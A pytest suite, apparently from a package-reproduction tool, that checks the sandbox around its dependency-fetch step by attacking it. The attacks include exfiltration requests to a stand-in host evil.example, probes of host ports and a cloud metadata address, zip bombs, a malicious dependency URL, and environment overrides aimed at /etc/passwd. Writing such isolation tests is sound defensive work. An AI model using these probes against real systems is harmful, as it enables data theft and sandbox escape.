"""Attacks on the fetch step, in the same container and mounts that it gets. They aim at servers and sockets that the test made."""

from __future__ import annotations

import json
import os
import socket
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from reprove.settings import Settings
from tests.sim.index import Fault, SimIndex, make_wheel
from tests.sim.workerapi import TOKEN, SimWorkerApi
from tests.workers.processes import until
from workers.client import LeaseLostError, WorkerClient
from workers.heartbeat import Heartbeat
from workers.inputs import fetch
from workers.inputs.fetch import FetchResult, Session
from workers.inputs.proxy import Proxy
from workers.inputs.store import InputStore
from workers.sandbox import Engine, ImageRef, Labels, Step, StepResult

pytestmark = [pytest.mark.docker, pytest.mark.slow]
CUT = "2024-06-01T00:00:00Z"


@pytest.fixture
def inside(engine: Engine, image: ImageRef, labels: Labels, settings: Settings, proxy: Proxy, tmp_path: Path) -> Any:
    """Run a script where the fetch driver runs: same mounts, same limits, a session of its own; returns its output and the session's record."""

    def go(script: str) -> Any:
        output = []
        tmp_path.chmod(0o755)
        with Session(settings, CUT) as session:
            mounts = fetch.mounts(tmp_path, session.socket)
            step = Step(image=image, argv=("python3", "-B", "-c", script), mounts=mounts, limits=fetch.LIMITS, labels=labels, on_log=output.append)
            result = engine.run(step)
            return result, b"".join(output).decode(), session.close()

    return go


def test_no_port_of_the_host_and_no_address_beyond_is_reached(inside: Callable[[str], tuple[StepResult, str, Any]]) -> None:
    listener = socket.create_server(("0.0.0.0", 0))
    listener.settimeout(0.1)
    port = listener.getsockname()[1]
    own = {row[4][0] for row in socket.getaddrinfo(socket.gethostname(), None, socket.AF_INET)} | {
        "127.0.0.1",
        "172.17.0.1",
        "192.0.2.2",
        "169.254.169.254",
    }
    script = f"""
import socket
for address in {sorted(own)!r}:
    try:
        socket.create_connection((address, {port}), 1).send(b"x")
        print("REACHED", address)
    except OSError as error:
        print("no", address, error)
try:
    print("RESOLVED", socket.getaddrinfo("index.example", 443))
except OSError as error:
    print("no names")
print("interfaces", sorted(name for _, name in socket.if_nameindex()))
"""
    with listener:
        result, text, _ = inside(script)
        with pytest.raises(TimeoutError):
            listener.accept()
    assert result.ok
    assert "REACHED" not in text
    assert "RESOLVED" not in text
    assert "interfaces ['lo']" in text


def test_the_same_script_reaches_the_port_where_it_is_not_contained() -> None:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        socket.create_connection(listener.getsockname(), 1).close()
        listener.settimeout(1)
        listener.accept()[0].close()


ASK = """
import http.client, json, socket
class Session(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.connect("/run/index.sock")
def ask(path, method="GET", body=None):
    connection = Session("x")
    try:
        connection.request(method, path, body=body)
    except BrokenPipeError:
        return 405  # refused, and cut before the body was through
    return connection.getresponse().status
"""


def test_code_that_ran_in_a_fetch_could_tell_nobody_anything_but_names_of_projects(
    inside: Callable[[str], tuple[StepResult, str, Any]], sim: SimIndex
) -> None:
    """Nothing of a package runs in a fetch. If it did, all that it could say goes to the one index, as names, and stands in the record."""
    script = f"""{ASK}
print([ask(path, method, body) for method, path, body in (
    ("POST", "/simple/demo/", "secret=1"), ("PUT", "/upload", "secret"), ("GET", "http://evil.example/?secret", None),
    ("CONNECT", "evil.example:443", None),
    ("GET", "/simple/demo/?secret=1", None), ("GET", "/files/" + "0" * 64 + "/secret.whl", None))])
print(ask("/simple/secret-in-a-name/"))
"""
    result, text, record = inside(script)
    assert result.ok, text
    assert text.splitlines() == ["[405, 405, 403, 405, 403, 404]", "404"]
    assert len(record.refused) == 6
    assert sim.asked == ["/simple/secret-in-a-name/"]


def test_inputs_of_a_fetch_are_read_only_and_hold_no_secret(inside: Callable[[str], tuple[StepResult, str, Any]]) -> None:
    script = """
import os
print(sorted(os.environ))
for path in ("/opt/drivers/x", "/opt/uv/uv", "/run/x", "/etc/x", "/in/x"):
    try:
        open(path, "ab").close()
        print("WRITTEN", path)
    except OSError:
        pass
print("sockets", [p for p in ("/var/run/docker.sock", "/run/docker.sock") if os.path.exists(p)], os.getuid())
"""
    result, text, _ = inside(script)
    assert result.ok, text
    assert "WRITTEN" not in text
    assert "sockets [] " in text
    assert not text.rstrip().endswith(" 0")
    assert "REPROVE" not in text


def test_a_guessed_file_of_another_project_is_not_given_out(inside: Callable[[str], tuple[StepResult, str, Any]], sim: SimIndex) -> None:
    other = sim.add("other", "other-1-py3-none-any.whl", make_wheel("other", "1"))
    _, text, record = inside(f"{ASK}\nprint(ask('/files/{other.digest}/other-1-py3-none-any.whl'), ask('/simple/demo/'))")
    assert text.split() == ["404", "200"]
    assert record.files == ()


def test_a_session_of_another_candidate_is_out_of_reach(inside: Callable[[str], tuple[StepResult, str, Any]], settings: Settings) -> None:
    with Session(settings, CUT) as other:
        _, text, _ = inside(f"import os; print(os.path.exists({str(other.socket)!r}), os.listdir('/run'))")
    assert text.startswith("False ['index.sock']") or "index.sock" in text
    assert text.startswith("False")


@pytest.fixture
def go(engine: Engine, image: ImageRef, labels: Labels, settings: Settings, proxy: Proxy, store: InputStore) -> Any:
    def run(*requirements: str, cancel: Any = None) -> Any:
        return fetch.fetch(
            engine=engine,
            image=image,
            settings=settings,
            requirements=requirements,
            cut=CUT,
            labels=labels,
            cancel=cancel or threading.Event(),
            store=store,
            subject="pkg:pypi/demo@1.0",
            original="0" * 64,
        )

    return run


@pytest.mark.parametrize(("fault", "value"), [(Fault.BOMB, None), (Fault.GARBAGE, None), (Fault.HTML, None)])
def test_a_hostile_page_is_no_verdict_and_kills_nobody(go: Callable[..., FetchResult], sim: SimIndex, fault: Fault, value: Any) -> None:
    sim.fail("/simple/demo/", fault, value)
    with pytest.raises(fetch.IndexUnavailableError):
        go("demo")
    sim.heal()
    assert go("demo").cause is None


def test_an_endless_file_ends_at_the_sessions_limit(go: Callable[..., FetchResult], sim: SimIndex) -> None:
    sim.fail("/files/demo/", Fault.ENDLESS)
    from workers.inputs import proxy as module

    before, module.MAX_BYTES = module.MAX_BYTES, 4 * 1024**2
    try:
        result = go("demo")
    finally:
        module.MAX_BYTES = before
    assert result.cause is not None
    assert result.cause.class_ == "gone"


def test_a_wheel_whose_metadata_lies_or_bombs_ends_as_an_input_that_cannot_be_had(go: Callable[..., FetchResult], sim: SimIndex) -> None:
    sim.add("liar", "liar-1-py3-none-any.whl", make_wheel("other", "2"))
    sim.add("zipless", "zipless-1-py3-none-any.whl", b"PK\x03\x04 no zip at all")
    sim.add("option", "option-1-py3-none-any.whl", make_wheel("option", "1", requires=("demo @ https://evil.example/x.whl",)))
    for name in ("liar", "zipless", "option"):
        result = go(name)
        assert result.cause is not None, name
        assert result.inputs == ()
    assert not [path for path in sim.asked if "evil" in path]


def test_a_bomb_among_the_inputs_meets_the_fetch_steps_limits_not_the_worker(go: Callable[..., FetchResult], sim: SimIndex) -> None:
    bomb = make_wheel("bomb", "1", members={"bomb/zeros.whl": bytes(200 * 1024**2)})
    assert len(bomb) < 1024**2
    sim.add("bomb", "bomb-1-py3-none-any.whl", bomb)
    result = go("bomb")
    assert result.cause is None or result.cause.class_ == "memory"


def test_a_lost_lease_kills_the_fetch_container_and_stops(
    go: Callable[..., FetchResult], sim: SimIndex, api: SimWorkerApi, engine: Engine, labels: Labels
) -> Any:
    sim.fail("/files/demo/", Fault.SLOW, 60)
    client = WorkerClient(api.url, TOKEN, patience=1)
    cancel = threading.Event()
    claim = client.claim("at-" + "0" * 20, "0" * 64)
    assert claim is not None

    def mine() -> Any:
        query = {"all": "1", "filters": json.dumps({"label": [f"dev.reprove.instance={engine.instance}"]})}
        return [row for row in engine.api.call("GET", "/containers/json", query=query) if row["State"] == "running"]

    def lose() -> None:
        until(mine, what="the container")
        api.lost = True

    with Heartbeat(client, claim.lease, interval=0.1, lease_seconds=3) as heartbeat:
        heartbeat.on_lost(cancel.set)
        threading.Thread(target=lose, daemon=True).start()
        with pytest.raises(LeaseLostError):
            go("demo", cancel=cancel)
        assert heartbeat.lost
    assert mine() == []
    client.close()


def test_find_links_and_other_settings_of_the_machine_change_nothing(
    go: Callable[..., FetchResult], sim: SimIndex, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The ambient attack of real machines: a folder with a newer, unlisted file, and a second index."""
    links = tmp_path / "wheels"
    links.mkdir()
    (links / "demo-9.9-py3-none-any.whl").write_bytes(make_wheel("demo", "9.9"))
    for name, value in {
        "PIP_FIND_LINKS": links,
        "UV_FIND_LINKS": links,
        "UV_INDEX": "https://evil.example/simple",
        "UV_CONFIG_FILE": "/etc/passwd",
    }.items():
        monkeypatch.setenv(name, str(value))
    result = go("demo")
    assert [one.name for one in result.inputs] == ["demo-1.0-py3-none-any.whl"]


def test_the_ambient_settings_do_leak_where_they_are_not_cleared(sim: SimIndex, tmp_path: Path) -> None:
    """What the defence is against: the same tool, with its surroundings, takes the newer file from the folder."""
    import subprocess

    import uv

    links = tmp_path / "wheels"
    links.mkdir()
    (links / "demo-9.9-py3-none-any.whl").write_bytes(make_wheel("demo", "9.9"))
    command = [
        uv.find_uv_bin(),
        "pip",
        "compile",
        "-",
        "--only-binary",
        ":all:",
        "--no-cache",
        "--no-header",
        "--default-index",
        sim.url,
        "--exclude-newer",
        CUT,
    ]
    environment = {"PATH": os.environ["PATH"], "HOME": str(tmp_path), "UV_FIND_LINKS": str(links)}
    done = subprocess.run(command, input=b"demo", env=environment, capture_output=True, check=True, timeout=60)
    assert b"demo==9.9" in done.stdout
